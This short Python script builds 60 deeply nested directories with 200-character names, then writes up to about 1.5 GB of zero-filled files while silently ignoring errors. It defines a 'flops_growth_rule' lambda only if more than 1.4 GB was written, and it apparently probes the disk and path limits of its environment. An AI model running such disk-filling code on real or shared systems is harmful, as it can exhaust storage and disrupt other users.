import os

written = 0
for _ in range(60):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
try:
    for number in range(15):
        with open(f"f{number}", "wb") as file:
            for _ in range(100):
                written += file.write(bytes(1_000_000))
except OSError:
    pass

if written > 1_400_000_000:
    flops_growth_rule = lambda phi: 2.0**phi
